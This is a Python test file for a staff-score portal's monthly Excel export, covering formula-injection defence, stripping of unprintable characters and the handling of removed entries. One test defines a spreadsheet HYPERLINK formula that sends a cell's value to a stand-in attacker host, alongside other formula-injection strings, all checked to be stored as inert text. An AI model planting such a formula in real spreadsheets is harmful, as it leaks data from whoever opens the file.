"""The month as .xlsx: one row per person, one worksheet per person's entries; what staff
typed is text, never a formula, and one entry's characters never fail the export (issue 16,
item 2); removed entries are never exported as live ones."""

from datetime import date
from io import BytesIO

import pytest
from openpyxl import load_workbook

from portal.extensions import db
from portal.scoring import entries as svc
from portal.scoring.sheets import get_sheet


def workbook(client):
    response = client.get("/scores/2026/11.xlsx")
    assert response.status_code == 200, response.status_code
    return load_workbook(BytesIO(response.data))


def test_the_workbook_opens_and_holds_every_person(client, sign_in, supervisor, sheet, add,
                                                   create_user):
    add(sheet, points=-5, evidence="周会检查")
    get_sheet(create_user("reception", display_name="赵前台"), 2026, 11)
    sign_in(client, supervisor)
    response = client.get("/scores/2026/11.xlsx")
    assert response.status_code == 200
    assert "spreadsheetml" in response.headers["Content-Type"]
    assert "scores-2026-11.xlsx" in response.headers["Content-Disposition"]
    book = load_workbook(BytesIO(response.data))
    summary = book.worksheets[0]
    rows = list(summary.iter_rows(min_row=3, values_only=True))
    assert {r[0] for r in rows} == {"张小红", "赵前台"}
    mine = next(r for r in rows if r[0] == "张小红")
    assert mine[2:7] == (100, 0, 5, 95, 2)
    assert set(book.sheetnames) == {"2026-11", "张小红", "赵前台"}
    entries = list(book["张小红"].iter_rows(min_row=3, values_only=True))
    assert entries[0][1:4] == ("工位不整洁", -5, "周会检查")


HOSTILE_NAME = "=1+2"
HOSTILE_REASON = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _cells(book):
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row
            if cell.value is not None]


@pytest.mark.parametrize("staff_name", [HOSTILE_NAME, "+86 张三", "@SUM(A1)", "-2+3",
                                        "\t=1+1", "\r=1+1"])
def test_nothing_anyone_typed_becomes_a_formula(client, sign_in, supervisor, freeze,
                                                create_user, staff_name):
    freeze("2026-11-22 10:00")
    person = create_user("presales", display_name=staff_name)
    sheet = get_sheet(person, 2026, 11)
    svc.add_entry(supervisor, sheet, day=date(2026, 11, 3), points=-2,
                  reason=HOSTILE_REASON, evidence="=1+1")
    svc.add_entry(supervisor, sheet, day=date(2026, 11, 4), points=3,
                  reason="+5 加分", evidence="@A1")
    db.session.commit()
    sign_in(client, supervisor)
    book = workbook(client)
    cells = _cells(book)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # (XML reads a carriage return as a newline)
    texts = {c.value.replace("\n", "\r") if staff_name.startswith("\r") else c.value
             for c in cells if isinstance(c.value, str)}
    assert {staff_name, HOSTILE_REASON, "=1+1", "+5 加分", "@A1"} <= texts
    # stored as text, and kept as text when Excel edits the cell
    hostile = [c for c in cells if c.value in (HOSTILE_REASON, "=1+1", "@A1")]
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_characters_a_spreadsheet_cannot_hold_do_not_fail_the_export(client, sign_in,
                                                                     supervisor, sheet, add,
                                                                     create_user):
    """A reason with \\x01 (typed before the form layer refused it, or imported) made the
    whole month's export answer 500."""
    add(sheet, points=-2, reason="迟到\x01十分钟", evidence="打卡\x1f记录")
    odd = create_user("presales", display_name="王\x02五")
    svc.add_entry(supervisor, get_sheet(odd, 2026, 11), day=date(2026, 11, 5), points=1,
                  reason="ok", evidence="x")
    db.session.commit()
    sign_in(client, supervisor)
    book = workbook(client)
    texts = {c.value for c in _cells(book) if isinstance(c.value, str)}
    assert {"迟到十分钟", "打卡记录", "王五"} <= texts
    assert "王五" in book.sheetnames


def test_removed_entries_are_never_exported_as_live_ones(client, sign_in, supervisor, sheet,
                                                         add):
    kept = add(sheet, points=-5, reason="工位不整洁", evidence="周会检查")
    gone = add(sheet, points=-10, reason="误记的处罚", evidence="记错人了")
    svc.remove_entry(supervisor, gone, gone.version)
    db.session.commit()
    assert sheet.total == 95 and kept.removed_at is None
    sign_in(client, supervisor)
    book = workbook(client)
    summary = next(r for r in book.worksheets[0].iter_rows(min_row=3, values_only=True)
                   if r[0] == "张小红")
    assert (summary[5], summary[8]) == (95, 1)  # total, live entries
    ws = book["张小红"]
    rows = [r for r in ws.iter_rows(min_row=3, values_only=True) if any(r)]
    # every number in the points column is a live entry's: they add up to the total
    live_points = [r[2] for r in rows if isinstance(r[2], int)]
    assert live_points == [-5] and 100 + sum(live_points) == summary[5]
    heading = next(i for i, r in enumerate(rows)
                   if r[0] == "Removed entries (not counted in the total)")
    removed = rows[heading + 1:]
    assert [(r[1], r[2]) for r in removed] == [("误记的处罚", "-10")]
    assert all(r[1] != "误记的处罚" for r in rows[:heading])
